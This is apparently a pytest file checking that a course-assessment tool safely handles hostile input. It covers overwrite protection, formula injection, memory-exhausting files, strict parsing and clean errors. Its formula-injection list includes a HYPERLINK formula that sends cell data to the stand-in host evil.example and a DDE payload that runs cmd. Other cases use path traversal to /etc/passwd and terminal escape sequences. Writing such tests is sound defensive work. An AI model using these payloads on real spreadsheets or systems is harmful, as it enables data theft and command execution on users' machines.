"""Bad input never costs a user their work: every case a hostile or careless user found.

Grouped as the cases were found: finished work destroyed, text saved but unreadable, CSV
formula injection, tiny files that exhaust memory or hang, silently wrong reads, tracebacks,
and the lesser ones. The portal server's cases are in ``test_portal.py``; the round trips of
every writer with generated hostile text are in ``test_sheet_round_trips.py``.
"""

from __future__ import annotations

import errno
import json
import os
import stat
import subprocess
import sys
import tempfile
from pathlib import Path

import openpyxl
import pytest
from conftest import run_cli_in_process as run

import hostile_files
from losi_course import datafiles
from losi_course.assessment import Assessment, clean_text
from losi_course.errors import LosiInputError, SaveError, SheetError
from losi_course.framework import load_instrument
from losi_course.sheets import read_sheet, write_sheet
from losi_course.sheets.source import read_source
from losi_course.widgets import assessment_form

IDS = load_instrument().ids
ROOT = Path(__file__).resolve().parent.parent


def _one_paragraph(result, code: int = 2) -> str:
    assert result.returncode == code, (result.returncode, result.stdout, result.stderr)
    assert "Traceback" not in result.stderr and "\n\n" not in result.stderr.strip()
    return " ".join(result.stderr.split())


def _filled(path: Path, city: str = "Velmora") -> Path:
    return write_sheet(Assessment.from_values({i: k % 2 for k, i in enumerate(IDS)}, city=city), path)


def _deny(monkeypatch, *paths: Path) -> None:
    """Make ``paths`` unwritable folders / unreadable files, also when the tests run as root."""
    for path in paths:
        os.chmod(path, 0o555 if path.is_dir() else 0o000)
    if os.name != "posix" or os.geteuid() != 0:
        return
    denied = {str(p) for p in paths}
    real_mkstemp, real_open = tempfile.mkstemp, Path.open

    def mkstemp(*args, dir=None, **kwargs):
        if str(dir) in denied:
            raise PermissionError(errno.EACCES, "Permission denied", str(dir))
        return real_mkstemp(*args, dir=dir, **kwargs)

    def open_(self, *args, **kwargs):
        if str(self) in denied:
            raise PermissionError(errno.EACCES, "Permission denied", str(self))
        return real_open(self, *args, **kwargs)

    monkeypatch.setattr(tempfile, "mkstemp", mkstemp)
    monkeypatch.setattr(Path, "open", open_)


@pytest.fixture
def restore_modes():
    changed: list[Path] = []
    yield changed
    for path in changed:
        os.chmod(path, 0o755 if path.is_dir() else 0o644)


# ------------------------------------------------------------------ finished work destroyed
def test_template_never_replaces_a_filled_sheet_unless_forced(tmp_path):
    sheet = _filled(tmp_path / "filled.csv")
    before = sheet.read_bytes()
    message = _one_paragraph(run("template", "-o", sheet))
    assert f"Not saved to {sheet}" in message and "add --force" in message and "filled-2.csv" in message
    assert sheet.read_bytes() == before
    assert run("template", "-o", sheet, "--force").returncode == 0
    assert read_sheet(sheet).unanswered == list(IDS)


def test_template_never_replaces_a_read_only_sheet_even_when_forced(tmp_path, restore_modes):
    sheet = _filled(tmp_path / "filled.xlsx")
    os.chmod(sheet, 0o444)
    restore_modes.append(sheet)
    before = sheet.read_bytes()
    message = _one_paragraph(run("template", "-o", sheet, "--force"))
    assert "read-only" in message and "filled-2.xlsx" in message
    assert sheet.read_bytes() == before and stat.S_IMODE(sheet.stat().st_mode) == 0o444


def test_template_into_an_empty_file_is_fine(tmp_path):
    (tmp_path / "new.csv").touch()
    assert run("template", "-o", tmp_path / "new.csv").returncode == 0


@pytest.mark.parametrize("which", ["sheet_a", "sheet_b"])
def test_consensus_never_replaces_a_sheet_being_compared(tmp_path, which):
    a, b = _filled(tmp_path / "a.csv", "Velmora"), _filled(tmp_path / "b.json", "Velmora")
    target = a if which == "sheet_a" else b
    before = target.read_bytes()
    for extra in ([], ["--force"]):
        message = _one_paragraph(run("reconcile", a, b, "--consensus", target, *extra))
        assert "one of the files being read" in message and "new file" in message
    assert target.read_bytes() == before


def test_consensus_onto_another_existing_file_needs_force(tmp_path):
    a, b = _filled(tmp_path / "a.csv"), _filled(tmp_path / "b.csv")
    other = _filled(tmp_path / "agreed.csv", "Earlier work")
    result = run("reconcile", a, b, "--consensus", other)
    assert "add --force" in _one_paragraph(result) and result.stdout == ""  # refused before any output
    assert read_sheet(other).city == "Earlier work"
    assert run("reconcile", a, b, "--consensus", other, "--force").returncode == 0
    assert "consensus" in read_sheet(other).assessor


# ------------------------------------------------------------------ saved but unreadable
HOSTILE_NOTES = {
    "line separator U+2028": "first\u2028second",
    "next line U+0085": "first\x85second",
    "non-character U+FFFF": "odd\uffffchar",
    "lone surrogate": "half\ud800pair",
    "escape sequence": "\x1b[31mred\x1b[0m",
    "140,000 characters": "x" * 140_000,
}


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
@pytest.mark.parametrize("case", sorted(HOSTILE_NOTES))
def test_what_the_form_saves_it_can_open_again(tmp_path, suffix, case):
    text = HOSTILE_NOTES[case]
    path = tmp_path / f"v{suffix}"
    form = assessment_form(path, city="Velmora")
    form.controls["281"].note.value = text
    assert form.saved and form.status.startswith("Saved")
    lost = " ".join(text.split()) != " ".join(clean_text(text).split())  # a line break is kept as "\n"
    assert ("ℹ The note of 281 was" in form.status) == lost  # the user is told what changed
    assert form.controls["281"].note.value == clean_text(text)  # the box shows what was saved
    again = assessment_form(path)  # reopened: nothing lost that a sheet can hold
    assert again.sheet["281"].note == clean_text(text) and again.sheet.city == "Velmora"
    if case == "140,000 characters":
        assert len(again.sheet["281"].note) == 32_767 and "32,767" in form.status


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".json"])
@pytest.mark.parametrize("city, kept", [("Vel\nmora", "Vel mora"), ("a\x01", "a"), ("\x1b[2JVelmora", "[2JVelmora")])
def test_template_details_with_control_characters_read_back(tmp_path, suffix, city, kept):
    path = tmp_path / f"t{suffix}"
    result = run("template", "-o", path, f"--city={city}", "--assessor=Ana\u2028Ruiz")
    assert result.returncode == 0, result.stderr
    assert read_sheet(path).city == kept and read_sheet(path).assessor == "Ana Ruiz"
    if kept.replace(" ", "") != city.replace("\n", ""):
        assert f"the city was written as '{kept}'" in result.stdout


def test_an_oversized_sheet_is_refused_before_anything_is_written(tmp_path):
    big = Assessment()
    for i in IDS:
        big.answers[i].note = big.answers[i].evidence = "\U0001f600" * 32_767  # 4 bytes each in UTF-8
    with pytest.raises(SheetError, match="too big to read back.*Nothing was written"):
        write_sheet(big, tmp_path / "big.csv")
    assert not (tmp_path / "big.csv").exists()


# ------------------------------------------------------------------ CSV formula injection
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "'=already quoted"]


def test_formula_like_csv_cells_are_neutralised_and_read_back_unchanged(tmp_path):
    a = Assessment(city="Velmora")
    for key, text in zip(IDS, FORMULAS):
        a.set(key, "yes", note=text, evidence=text)
    path = write_sheet(a, tmp_path / "s.csv")
    cells = [row.split(",", 4)[-1] for row in path.read_text(encoding="utf-8-sig").splitlines()]
    assert not any(cell.lstrip('"').startswith(("=", "+", "-", "@")) for cell in cells)
    back = read_sheet(path)
    assert [back[k].note for k in IDS[:5]] == FORMULAS and [back[k].evidence for k in IDS[:5]] == FORMULAS


def test_the_form_shows_formula_like_text_unchanged(tmp_path):
    path = tmp_path / "v.csv"
    assessment_form(path).controls["281"].note.value = FORMULAS[0]
    assert f"'{FORMULAS[0]}" in path.read_text(encoding="utf-8-sig").replace('""', '"')
    assert assessment_form(path).controls["281"].note.value == FORMULAS[0]


# ------------------------------------------------------------------ memory and hangs
_BOUNDED_READ = r"""
import resource, sys
import defusedxml.ElementTree, openpyxl, openpyxl.reader.excel
from losi_course.sheets import read_sheet

def address_space():
    with open("/proc/self/status") as status:
        return next(int(line.split()[1]) * 1024 for line in status if line.startswith("VmSize:"))

limit = address_space() + 300 * 1024 * 1024  # what the reading may add
resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
try:
    read_sheet(sys.argv[1])
    print("read")
except MemoryError:
    print("MemoryError")
except Exception as err:
    print(f"{type(err).__name__}: {err}")
"""

WORST = {
    "sparse.xlsx": (hostile_files.sparse_xlsx, "has something in cell XFD1048576"),
    "bomb.xlsx": (hostile_files.zip_bomb_xlsx, "expands from 1.5 MB to 1.5 GB"),
    "rows.csv": (hostile_files.many_rows_csv, "more than 10,000 rows"),
    "padded.xlsx": (hostile_files.padded_xlsx, "more than 500,000 XML elements"),
    "zero.csv": (lambda p: p.symlink_to("/dev/zero") or p, "this is a device, not a sheet file"),
    "urandom.csv": (lambda p: p.symlink_to("/dev/urandom") or p, "this is a device, not a sheet file"),
    "pipe.csv": (lambda p: os.mkfifo(p) or p, "this is a pipe (FIFO), not a sheet file"),
}


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="measures the address space through /proc")
@pytest.mark.parametrize("name", sorted(WORST))
def test_worst_files_end_in_a_clear_error_within_300_mb(tmp_path, name):
    build, message = WORST[name]
    path = build(tmp_path / name)
    try:
        done = subprocess.run([sys.executable, "-c", _BOUNDED_READ, str(path)], capture_output=True,
                              text=True, timeout=60)
    except subprocess.TimeoutExpired:
        pytest.fail(f"reading {name} did not end")
    assert done.stdout.startswith("SheetError: ") and message in done.stdout, done.stdout + done.stderr


@pytest.mark.parametrize("device", ["/dev/zero", "/dev/urandom", "/dev/null"])
def test_devices_are_refused_without_reading_them(device):
    if not os.path.exists(device):
        pytest.skip(f"no {device} here")
    with pytest.raises(SheetError, match="device, not a sheet file"):
        read_source(Path(device))


def test_a_folder_named_like_a_sheet_is_refused(tmp_path):
    (tmp_path / "folder.xlsx").mkdir()
    with pytest.raises(SheetError, match="a folder, not a sheet file"):
        read_sheet(tmp_path / "folder.xlsx")


# ------------------------------------------------------------------ silently wrong reads
def _csv_sheet(tmp_path, text: str, raw: bytes | None = None) -> Path:
    path = tmp_path / "s.csv"
    path.write_bytes(raw if raw is not None else text.encode("utf-8"))
    return path


def test_one_invalid_byte_in_a_utf8_file_is_reported_with_its_line(tmp_path):
    body = "# city: Bogotá\nid,value,note\n" + "".join(f"{i},1,señal\n" for i in IDS)
    raw = body.encode("utf-8").replace("281,1,señal".encode(), b"281,1,caf\xe9")
    with pytest.raises(SheetError, match=r"mixes two text encodings: it is UTF-8, but line 3 has a byte \(0xE9\)"):
        read_sheet(_csv_sheet(tmp_path, "", raw))


def test_a_wholly_windows_ansi_file_is_still_read(tmp_path):
    body = "# city: Bogotá\nid,value,note\n" + "".join(f"{i},1,señal\n" for i in IDS)
    back = read_sheet(_csv_sheet(tmp_path, "", body.encode("cp1252")))
    assert back.city == "Bogotá" and back["281"].note == "señal"


@pytest.mark.parametrize("document, message", [
    ('{"answers": {"281": 1, "281": 0}}', "the key '281' appears twice in one object"),
    ('{"city": "A", "city": "B", "answers": {}}', "the key 'city' appears twice"),
    ('{"answers": {"281": NaN}}', "holds NaN, which is not a value a sheet can hold"),
    ('{"answers": {"281": Infinity}}', "holds Infinity"),
    ('{"answers": [{"id": "281", "value": 1, "note": {"a": 1}}]}', "answer 1: the note must be text or a number, not an object"),
])
def test_strict_json(tmp_path, document, message):
    path = tmp_path / "s.json"
    path.write_text(document, encoding="utf-8")
    with pytest.raises(SheetError, match=message):
        read_sheet(path)


def test_a_second_value_column_is_an_error(tmp_path):
    text = "id,value,note,value\n" + "".join(f"{i},1,,0\n" for i in IDS)
    with pytest.raises(SheetError, match=r"the column value appears 2 times \(columns B, D\)"):
        read_sheet(_csv_sheet(tmp_path, text))


@pytest.mark.parametrize("mark", ["NaN", "nan", "<NA>", "None"])
def test_nan_is_not_a_blank_answer(tmp_path, mark):
    text = "id,value\n" + "".join(f"{i},{mark if i == '215' else 1}\n" for i in IDS)
    with pytest.raises(SheetError, match=f"row 3: the value '{mark}' for indicator 215 is a program's mark"):
        read_sheet(_csv_sheet(tmp_path, text))


def _sheet_part(path: Path) -> bytes:
    with hostile_files.zipfile.ZipFile(path) as archive:
        return archive.read("xl/worksheets/sheet1.xml")


def _edit_sheet_part(path: Path, old: bytes, new: bytes) -> Path:
    with hostile_files.zipfile.ZipFile(path) as archive:
        parts = {n: archive.read(n) for n in archive.namelist()}
    assert old in parts["xl/worksheets/sheet1.xml"]
    parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"].replace(old, new)
    with hostile_files.zipfile.ZipFile(path, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


def test_nan_in_an_excel_cell_is_not_a_blank_answer(tmp_path):
    path = write_sheet(Assessment.from_values({i: 1 for i in IDS}), tmp_path / "s.xlsx")
    book = openpyxl.load_workbook(path)
    book["Assessment"]["D3"] = "nan"  # a missing number turned into text by a program
    book.save(path)
    with pytest.raises(SheetError, match="row 3: the value 'nan' for indicator 215 is a program's mark"):
        read_sheet(path)
    _edit_sheet_part(path, b'<c r="D3" t="inlineStr"><is><t>nan</t></is></c>', b'<c r="D3"><v>NaN</v></c>')
    with pytest.raises(SheetError, match="cannot be read as an Excel workbook"):  # a number no program writes
        read_sheet(path)


def test_formulas_without_saved_results_are_not_unanswered(tmp_path):
    path = hostile_files.uncached_formula_xlsx(tmp_path / "s.xlsx")
    with pytest.raises(SheetError) as caught:
        read_sheet(path)
    message = str(caught.value)
    assert "row 2: the value cell holds a formula (=IF(E2<>\"\",1,0)) whose result was never saved" in message
    assert "row 3:" in message and message.count("Open the file in Excel or LibreOffice") == 1


def test_formulas_with_saved_results_are_read(tmp_path):
    path = hostile_files.uncached_formula_xlsx(tmp_path / "s.xlsx")
    # an empty result is written <v /> or <v></v> (with lxml installed, openpyxl writes the latter)
    empty = b"</f><v></v></c>" if b"</f><v></v></c>" in _sheet_part(path) else b"</f><v /></c>"
    _edit_sheet_part(path, empty, b"</f><v>1</v></c>")  # results saved, as Excel saves them
    assert read_sheet(path)["281"].value == 1 and read_sheet(path)["215"].value == 1


# ------------------------------------------------------------------ never a traceback
def test_portal_serve_on_an_impossible_port():
    message = _one_paragraph(run("portal", "serve", "--port", "70000"))
    assert "the port must be a whole number from 0 to 65535, not '70000'" in message
    assert "from 0 to 65535" in _one_paragraph(run("lab", "--port", "-1", "--dry-run"))


def test_template_into_proc_or_onto_a_folder(tmp_path):
    assert "Not saved to /proc/t.csv" in _one_paragraph(run("template", "-o", "/proc/t.csv"))
    (tmp_path / "folder.csv").mkdir()
    assert "it is a folder" in _one_paragraph(run("template", "-o", tmp_path / "folder.csv"))


def test_template_and_consensus_into_a_read_only_folder(tmp_path, monkeypatch, restore_modes):
    a, b = _filled(tmp_path / "a.csv"), _filled(tmp_path / "b.csv")
    locked = tmp_path / "locked"
    locked.mkdir()
    restore_modes.append(locked)
    _deny(monkeypatch, locked)
    for args in (["template", "-o", locked / "t.xlsx"], ["reconcile", a, b, "--consensus", locked / "c.csv"]):
        message = _one_paragraph(run(*args))
        assert "the system refused to write it (Permission denied)" in message and "another folder" in message
    assert list(locked.iterdir()) == []


@pytest.mark.parametrize("build, message", [
    (hostile_files.crc_broken_xlsx, "Bad CRC-32 for file 'xl/worksheets/sheet1.xml'"),
    (lambda p: p.write_bytes(b"PK\x03\x04" + b"\x00" * 200) and p, "not a zip archive"),
])
def test_damaged_workbooks_from_the_command_line_and_the_form(tmp_path, build, message):
    path = build(tmp_path / "s.xlsx")
    before = path.read_bytes()
    assert message in _one_paragraph(run("score", path))
    with pytest.raises(SheetError, match="the assessment form cannot open this file") as caught:
        assessment_form(path)
    assert message in str(caught.value) and path.read_bytes() == before


def test_deep_json_and_long_numbers(tmp_path):
    deep = hostile_files.deep_json(tmp_path / "deep.json")
    assert "nested more than 64 levels deep" in _one_paragraph(run("score", deep))
    long = hostile_files.long_number_json(tmp_path / "long.json")
    assert "a number 5,000 characters long" in _one_paragraph(run("score", long))


@pytest.mark.parametrize("line", [b"not a checksum line", b"\xff\xfe broken bytes", b"0" * 64 + b"  a\x00b.csv",
                                  b"0" * 64 + b"  ../../outside.csv", b"0" * 64 + b"  /etc/passwd"])
def test_a_malformed_manifest_line(data_copy, line):
    manifest = data_copy / datafiles.MANIFEST
    manifest.write_bytes(manifest.read_bytes() + line + b"\n")
    number = manifest.read_bytes().count(b"\n")
    message = _one_paragraph(run("data", "verify"))
    assert f"Line {number} of the data manifest" in message and "restore it from the repository" in message


def test_an_unreadable_data_file_or_manifest(data_copy, monkeypatch, restore_modes):
    restore_modes.extend([data_copy / "pilots.csv", data_copy / datafiles.MANIFEST])
    _deny(monkeypatch, data_copy / "pilots.csv")
    assert "CHANGED  pilots.csv" in run("data", "verify").stdout
    assert "cannot be read (Permission denied)" in _one_paragraph(run("data", "show", "pilots"))
    _deny(monkeypatch, data_copy / datafiles.MANIFEST)
    assert "The data manifest" in _one_paragraph(run("data", "verify"))


def test_an_internal_error_is_one_line_and_a_log(monkeypatch, capsys):
    from losi_course import cli

    def broken(args):
        raise ZeroDivisionError("a bug")

    monkeypatch.setattr(cli, "_cmd_indicators", broken)
    result = run("indicators")
    assert result.returncode == 1 and result.stderr.count("\n") == 1 and "Traceback" not in result.stderr
    assert "internal error (ZeroDivisionError)" in result.stderr and "not a mistake of yours" in result.stderr
    log = Path(result.stderr.split("written to ")[1].split(";")[0])
    assert "ZeroDivisionError: a bug" in log.read_text() and log.parent == Path(tempfile.gettempdir())
    log.unlink()


# ------------------------------------------------------------------ the lesser cases
def test_escape_sequences_in_a_sheet_never_reach_the_terminal(tmp_path):
    path = tmp_path / "s.json"
    answers = [{"id": i, "value": 1, "note": "\x1b]0;pwned\x07"} for i in IDS]
    path.write_text(json.dumps({"city": "\x1b[2J\x1b[31mVelmora\u202e", "assessor": "Ana\x9b",
                                "answers": answers}), encoding="utf-8")
    shown = run("score", path)
    assert shown.returncode == 0 and "Velmora" in shown.stdout
    assert not any(c in shown.stdout for c in "\x1b\x07\x9b\u202e")
    other = tmp_path / "o.json"
    other.write_text(json.dumps({"city": "\x1b[2J\x1b[31mVelmora\u202e", "assessor": "B\x1b[5m", "answers": answers}),
                     encoding="utf-8")
    compared = run("reconcile", path, other)
    assert compared.returncode == 0 and "\x1b" not in compared.stdout


def test_errors_never_echo_what_a_linked_file_holds(tmp_path):
    secret = tmp_path / "secret-notes"
    secret.write_text("password: hunter2,root\n", encoding="utf-8")
    link = tmp_path / "sheet.csv"
    link.symlink_to(secret)
    message = _one_paragraph(run("score", link))
    assert "is a link to" in message and "hunter2" not in message
    long_id = tmp_path / "long.csv"
    long_id.write_text("id,value\n" + "k" * 5000 + ",1\n", encoding="utf-8")
    assert len(_one_paragraph(run("score", long_id))) < 400  # a quoted piece, not the whole line


def test_errors_never_carry_control_characters(tmp_path):
    path = _csv_sheet(tmp_path, "id,value\n281,\x1b[31mmaybe\n")
    assert "\x1b" not in run("score", path).stderr


def test_help_does_not_offer_an_edition_that_is_always_refused():
    shown = run("template", "--help")
    assert shown.returncode == 0 and "2022" not in shown.stdout and "--force" in shown.stdout
    assert "only 17 of its 86" in _one_paragraph(run("template", "--edition", "2022", "-o", "x.csv"))


def test_library_writers_refuse_what_no_caller_should_replace(tmp_path, restore_modes):
    path = _filled(tmp_path / "mine.csv")
    with pytest.raises(SaveError, match="pass replace=True"):
        write_sheet(Assessment(), path, replace=False)
    os.chmod(path, 0o444)
    restore_modes.append(path)
    with pytest.raises(SaveError, match="read-only"):
        write_sheet(Assessment(), path)
    assert read_sheet(path).city == "Velmora"
    assert isinstance(SaveError(path, "x"), LosiInputError)
